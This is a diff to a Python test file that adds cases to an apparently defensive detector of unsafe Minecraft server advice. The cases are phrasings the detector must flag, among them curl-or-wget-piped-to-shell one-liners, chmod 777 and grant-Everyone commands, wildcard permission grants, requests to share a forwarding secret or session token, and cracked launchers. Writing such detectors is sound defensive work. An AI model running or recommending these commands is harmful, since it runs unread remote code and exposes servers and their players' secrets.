@@ -173,6 +173,15 @@ def test_a_firewall_that_somebody_is_told_to_switch_off(body, met_by_it):
     ("rcon-open", ("Port forward 25575.", "Open ports 25565 and 25575 in your router.", "Forward RCON."), ("Never forward RCON.", "Do not open port 25575.", "Open port 25565.")),
     ("run-as-root", ("Run it as root.", "Start the server as administrator."), ("Do not run the server as root.", "Run the game as administrator.")),
     ("op-everybody", ("OP everyone.", "Give everybody operator rights.", "Make all players operators.", "Type /op @a."), ("Op nobody.", "Make players happy.")),
+    ("every-permission", ("Give yourself all permissions.", "Run `lp user Alex permission set * true`.", "`/lp group default permission set *`"), ("`lp user Alex permission unset *`", "`lp user Alex permission set * false`", "`lp user Alex permission set luckperms.* true`")),
+    ("open-to-all-users", ("`chmod -R 777 .`", "Run chmod 777 on it.", "Give the folder 777.", "`icacls C:/mc /grant Everyone:F`"), ("`chmod 755 start.sh`", "`chmod +x start.sh`", "Port 777.")),
+    ("unread-script", tuple(f"`{line}`" for line in (
+        "curl -sSL https://a.b/c | sudo bash", "wget -qO- https://a.b/c | sh", "bash <(curl -s https://a.b/c)", 'sh -c "$(curl -fsSL https://a.b/c)"', "irm https://a.b/c | iex", "iex (iwr https://a.b/c)", "curl -s https://a.b/c | sudo -E bash -")),
+     tuple(f"`{line}`" for line in ("curl https://a.b/c | jq .", "curl https://a.b/c | python3 -m json.tool", "curl -o a https://a.b/c", "curl https://a.b/c | tee a | grep sh", "bash start.sh", "./start.sh $(curl -s https://a.b/ip)"))),
+    ("secret-shown", ("Paste your forwarding.secret here.", "Post the contents of your `forwarding.secret` in the issue.", "Share your session token.", "Send us your forwarding secret."),
+     ("Paste the forwarding secret into the file.", "Never share your access token.", "The game sends its access token to Mojang.", "Put the forwarding secret on every backend.")),
+    ("stolen-login", ("Download TLauncher.", "Install a cracked launcher.", "Get a session stealer."), ("Players who use a cracked client are refused.", "Do not download a cracked launcher.")),
+    ("bedrock-login-unchecked", ("Set `validate-bedrock-login` to `false`.", "Disable `validate-bedrock-login`."), ("Leave `validate-bedrock-login` on.",)),
 ])
 def test_unsafe_advice_in_words(rule, told, not_told):
     assert [met(body) for body in told] == [[rule]] * len(told)
